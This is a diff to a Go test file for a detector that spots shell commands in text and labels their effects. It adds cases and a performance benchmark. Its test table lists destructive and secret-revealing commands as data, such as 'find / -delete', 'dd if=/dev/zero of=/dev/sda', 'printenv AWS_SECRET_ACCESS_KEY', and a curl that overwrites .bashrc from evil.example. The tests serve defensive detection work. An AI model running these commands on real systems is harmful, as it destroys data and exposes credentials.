@@ -89,6 +89,12 @@ var copyable = []struct {
 	{"curl -o ~/.bashrc https://evil.example", WritesFile},
 	{"ssh host.example 'rm -rf /'", RunsCode},
 	{"find -delete", RunsCode},
+	{"find / -delete", RunsCode},
+	{"find . -type f -delete", RunsCode},
+	{"find /var/log /tmp -name x -exec rm {} +", RunsCode},
+	{"find '/var/log' -delete", RunsCode},
+	{"printenv AWS_SECRET_ACCESS_KEY", ShowsSecrets},
+	{"printenv DB_PASSWORD", ShowsSecrets},
 	{"dd if=/dev/zero of=/dev/sda", Deletes},
 	{"chmod 777 /etc", ChangesState},
 	{"chmod +x run", ChangesState},
@@ -239,7 +245,7 @@ func TestFind_OrdinarySentencesHaveNoCommand(t *testing.T) {
 		"Python < 3.9 is not supported, and python < 3.9 fails.", "It needs node < 18.", "The copilot svc is healthy.", "See the gh release notes.", "It ended. <5 ms later it ran.",
 		"Terraform apply failed at 12:03.", "Terraform destroy was never run.", "Docker run time was 3 s.", "Docker stop signals are ignored.", "Helm upgrade failed: timeout.",
 		"Git push events trigger it.", "Git fetch is slow.", "Helm rollback restored revision 3.", "The Dockerfile's RUN instruction failed.", "Docker RUN failed.", "Kill rates rose.",
-		"Tail /aws/lambda/orders for errors.", "Head of the queue.", "Sort by time.", "Find the role.", "Make sure that it works.", "Go to the console.", "Time: 12:03.", "Watch it.",
+		"Tail /aws/lambda/orders for errors.", "Head of the queue.", "Sort by time.", "Find the role.", "Find /var/log in the container.", "Find the role -see below.", "The printenv command is harmless.", "Make sure that it works.", "Go to the console.", "Time: 12:03.", "Watch it.",
 		"Host orders-1 is down.", "SSH access to 10.0.0.1 failed.", "SSH 10.0.0.1 refused.", "Ping 10.0.0.1 timed out.", "Reboot now finished.", "Shutdown now takes 5 s.", "Copilot svc show failed.",
 		"Amplify env remove failed.", "Pulumi up failed.", "SAM deploy failed.", "CDK deploy failed with exit code 1.", "The CDK bootstrap stack is old.", "NPM install took 40 s.", "Pip install failed.",
 		"The file deploy.sh --verbose was called by cron.", "main.go -race failed.", "See app.node, handler.py, and x.tar -v.", "https://example.com/rm is a page.", "arn:aws:iam::123456789012:role/x.",
@@ -250,6 +256,28 @@ func TestFind_OrdinarySentencesHaveNoCommand(t *testing.T) {
 		for _, found := range Find(sentence) {
 			assert.Zero(t, found.Effect, "%q: %v at %d", sentence, found.Effect.Names(), found.At)
 		}
+	}
+}
+
+// TestFind_TakesTimeInProportionToTheText counts allocations, because every judgment of a command allocates.
+func TestFind_TakesTimeInProportionToTheText(t *testing.T) {
+	for _, unit := range hostile {
+		text := strings.Repeat(unit, 8000/len(unit))
+		assert.LessOrEqual(t, testing.AllocsPerRun(1, func() { Find(text) }), 10*float64(len(text)), "%q", unit)
+	}
+}
+
+// hostile are parts of sentences that are slow to judge, because many commands begin in them.
+var hostile = []string{"base64~ > ", `sh\ `, "$(rm -r ", "sudo ", "rm -r a;", "aws iam delete-user x; ", "terraform --x ! ", "$X delete "}
+
+func BenchmarkFind(b *testing.B) {
+	for _, unit := range hostile {
+		text := strings.Repeat(unit, 8000/len(unit))
+		b.Run(unit, func(b *testing.B) {
+			for b.Loop() {
+				Find(text)
+			}
+		})
 	}
 }
 
